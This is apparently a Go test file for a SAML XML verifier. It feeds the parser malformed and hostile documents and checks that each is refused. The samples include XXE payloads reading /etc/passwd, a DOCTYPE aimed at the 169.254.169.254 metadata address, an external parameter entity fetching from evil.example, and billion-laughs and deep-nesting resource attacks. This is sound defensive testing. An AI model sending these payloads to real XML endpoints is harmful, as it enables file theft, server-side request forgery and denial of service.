package verify

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
)

// xmlAttacks are N and B: documents outside the profile or beyond its limits.
func xmlAttacks() []attack {
	prepend := func(code, s string) func(*env) ([]byte, string) {
		return func(e *env) ([]byte, string) { return append([]byte(s), e.signed(nil)...), code }
	}
	appended := func(code, s string) func(*env) ([]byte, string) {
		return func(e *env) ([]byte, string) { return append(e.signed(nil), s...), code }
	}
	laughs := `<!DOCTYPE r [<!ENTITY a "ha">`
	for c := 'b'; c < 'k'; c++ {
		laughs += `<!ENTITY ` + string(c) + ` "` + strings.Repeat("&"+string(c-1)+";", 10) + `">`
	}
	list := []attack{
		{"N1", "DOCTYPE", prepend(CodeXMLProfile, `<!DOCTYPE r>`)},
		{"N2", "internal entity, used", func(e *env) ([]byte, string) {
			doc := e.replace(e.signed(nil), testName+"</saml:NameID>", "&x;</saml:NameID>")
			return append([]byte(`<!DOCTYPE r [<!ENTITY x "admin">]>`), doc...), CodeXMLProfile
		}},
		{"N3", "billion laughs", prepend(CodeXMLProfile, laughs+"]>")},
		{"N4", "SYSTEM file", prepend(CodeXMLProfile, `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)},
		{"N5", "SYSTEM http", prepend(CodeXMLProfile, `<!DOCTYPE r SYSTEM "http://169.254.169.254/">`)},
		{"N6", "parameter entity", prepend(CodeXMLProfile, `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>`)},
		{"N6", "DOCTYPE in lower case", prepend(CodeXMLProfile, `<!doctype r>`)},
		{"N6", "entity declaration inside", swap(CodeXMLProfile, "<saml:Subject>", `<!ENTITY x "y"><saml:Subject>`)},
		{"N7", "two roots", appended(CodeXMLProfile, `<a/>`)},
		{"N8", "trailing text", appended(CodeXMLProfile, `x`)},
		{"N8", "trailing processing instruction", appended(CodeXMLProfile, `<?x?>`)},
		{"N8", "leading text", prepend(CodeXMLProfile, `x`)},
		{"N8", "trailing CDATA", appended(CodeXMLProfile, `<![CDATA[]]>`)},
		{"N8", "trailing NUL", appended(CodeXMLProfile, "\x00")},
		{"N9", "NUL in text", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"\x00</saml:NameID>")},
		{"N9", "invalid UTF-8", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"\xc0\x80</saml:NameID>")},
		{"N9", "encoded surrogate", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"\xed\xa0\x80</saml:NameID>")},
		{"N9", "byte order mark", prepend(CodeXMLProfile, "\uFEFF")},
		{"N9", "noncharacter", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"\uFFFE</saml:NameID>")},
		{"N9", "UTF-16 bytes", func(e *env) ([]byte, string) {
			var b bytes.Buffer
			for _, u := range utf16.Encode([]rune(string(e.signed(nil)))) {
				b.Write([]byte{byte(u >> 8), byte(u)})
			}
			return b.Bytes(), CodeXMLProfile
		}},
		{"N9", "empty", func(*env) ([]byte, string) { return []byte{}, CodeXMLProfile }},
		{"N9", "white space only", func(*env) ([]byte, string) { return []byte(" \n"), CodeXMLProfile }},
		{"N9", "cut off", func(e *env) ([]byte, string) {
			doc := e.signed(nil)
			return doc[:len(doc)-3], CodeXMLProfile
		}},
		{"N9", "declaration not first", prepend(CodeXMLProfile, ` <?xml version="1.0"?>`)},
		{"N9", "mismatched tags", swap(CodeXMLProfile, "</saml:Subject>", "</saml:Subjects>")},
		{"N9", "unquoted attribute", swap(CodeXMLProfile, `ID="_assert-1"`, `ID=_assert-1`)},
		{"N9", "'<' in attribute", swap(CodeXMLProfile, `ID="_assert-1"`, `ID="<"`)},
		{"N9", "attributes without a space", swap(CodeXMLProfile, `ID="_assert-1"`, `ID="_assert-1"x="y"`)},
		{"N9", "]]> in text", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"]]></saml:NameID>")},
		{"N9", "bare ampersand", swap(CodeXMLProfile, testName+"</saml:NameID>", testName+"& </saml:NameID>")},
		{"N9", "non-ASCII name", swap(CodeXMLProfile, "<saml:Subject>", "<saml:Subj\u00e9ct/><saml:Subject>")},
		{"N9", "two colons", swap(CodeXMLProfile, "<saml:Subject>", "<saml:a:b/><saml:Subject>")},

		{"B1", "depth 65", swap(CodeLimit, "<saml:Subject>", strings.Repeat("<saml:a>", 64)+strings.Repeat("</saml:a>", 64)+"<saml:Subject>")},
		{"B1", "depth 10,000", swap(CodeLimit, "<saml:Subject>", strings.Repeat("<saml:a>", 10_000)+strings.Repeat("</saml:a>", 10_000)+"<saml:Subject>")},
		{"B1", "depth 1,000,000", func(*env) ([]byte, string) { return bytes.Repeat([]byte("<a>"), 1_000_000), CodeLimit }},
		{"B1", "depth within the size", func(*env) ([]byte, string) { return bytes.Repeat([]byte("<a>"), 600_000), CodeLimit }},
		{"B2", "20,001 elements", swap(CodeLimit, "<saml:Subject>", strings.Repeat("<saml:a/>", 20_000)+"<saml:Subject>")},
		{"B3", "100,000 attributes", swap(CodeLimit, "<saml:Subject>", "<saml:Subject"+numbered(100_000)+">")},
		{"B3", "65 attributes", swap(CodeLimit, "<saml:Subject>", "<saml:Subject"+numbered(65)+">")},
		{"B3", "32,001 attributes", swap(CodeLimit, "<saml:Subject>", strings.Repeat("<saml:a"+numbered(64)+"/>", 501)+"<saml:Subject>")},
		{"B3", "129 declarations in force", swap(CodeLimit, "<saml:Subject>", nestedDeclarations(65)+"<saml:Subject>")},
		{"B4", "1 MB attribute", swap(CodeLimit, "<saml:Subject>", `<saml:Subject a="`+strings.Repeat("x", 1<<20)+`">`)},
		{"B4", "1 MB text", swap(CodeLimit, testName+"</saml:NameID>", strings.Repeat("x", 1<<20)+"</saml:NameID>")},
		{"B4", "1 MB CDATA", swap(CodeLimit, testName+"</saml:NameID>", "<![CDATA["+strings.Repeat("x", 1<<20)+"]]></saml:NameID>")},
		{"B4", "long name", swap(CodeLimit, "<saml:Subject>", "<saml:"+strings.Repeat("x", 257)+"/><saml:Subject>")},
		{"B4", "long namespace", swap(CodeLimit, "<saml:Subject>", `<saml:Subject xmlns:x="u:`+strings.Repeat("x", 512)+`">`)},
		{"B4", "64,001 runs of text", swap(CodeLimit, testName+"</saml:NameID>", strings.Repeat("<![CDATA[x]]>", 64_001)+"</saml:NameID>")},
		{"B5", "10 MB", func(*env) ([]byte, string) { return make([]byte, 10<<20), CodeLimit }},
	}
	for _, encoding := range []string{"UTF-16", "UTF-7", "ISO-8859-1", "US-ASCII", ""} {
		list = append(list, attack{"N7", "declared " + encoding, prepend(CodeXMLProfile, `<?xml version="1.0" encoding="`+encoding+`"?>`)})
	}
	for _, d := range []string{
		`<?xml version="1.1"?>`, `<?xml encoding="UTF-8"?>`, `<?xml version="1.0" standalone="maybe"?>`, `<?xml version="1.0" x="y"?>`,
		`<?xml version="1.0"encoding="UTF-8"?>`, `<?xml version=1.0?>`, `<?xml version="1.0`, `<?xml version="1.0'?>`, `<?xml version?>`, `<?xml ?>`, `<?xml version="1.0" encoding="UTF-8" standalone="no" standalone="no"?>`,
	} {
		list = append(list, attack{"N7", "declaration " + d, prepend(CodeXMLProfile, d)})
	}
	return list
}

func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(" a" + strconv.Itoa(i) + `=""`)
	}
	return b.String()
}

// nestedDeclarations opens elements that declare two or three prefixes each.
func nestedDeclarations(n int) string {
	var b strings.Builder
	n = min(n, maxDepth-4)
	for i := range n {
		p := strconv.Itoa(i)
		b.WriteString(`<saml:a xmlns:x` + p + `="u:` + p + `" xmlns:y` + p + `="u:y` + p + `" xmlns:z` + p + `="u:z` + p + `">`)
	}
	return b.String() + strings.Repeat("</saml:a>", n)
}

// TestAmplification: a canonical form may be much longer than its source, when
// a namespace is declared once and used by many; it must be refused, not
// written.
func TestAmplification(t *testing.T) {
	uses := `<x:a/>`
	long := "u:" + strings.Repeat("n", 500)
	doc := `<saml:a xmlns:saml="u:s" xmlns:x="` + long + `">` + strings.Repeat(uses, 19_000) + `</saml:a>`
	root, err := parse(doc, maxDocument)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := canonical(root, nil, canonicalization{}); err == nil || err.Code != CodeLimit {
		t.Errorf("canonical form of %d bytes of source: %v", len(doc), err)
	}
}

func TestParseInstant(t *testing.T) {
	for in, want := range map[string]string{
		"2026-05-04T12:05:00Z":               "2026-05-04T12:05:00Z",
		"2026-05-04T12:05:00.1Z":             "2026-05-04T12:05:00.1Z",
		"2026-05-04T12:05:00.1234567Z":       "2026-05-04T12:05:00.1234567Z",
		"2026-05-04T12:05:00.123456789999Z":  "2026-05-04T12:05:00.123456789Z",
		"2024-02-29T00:00:00Z":               "2024-02-29T00:00:00Z",
		"2023-02-29T00:00:00Z":               "",
		"0000-01-01T00:00:00Z":               "",
		"2026-05-04T12:05:00.1234567890123Z": "",
	} {
		got := ""
		if v, ok := parseInstant(in); ok {
			got = v.Format("2006-01-02T15:04:05.999999999Z07:00")
		}
		if got != want {
			t.Errorf("%s: %q, want %q", in, got, want)
		}
	}
}
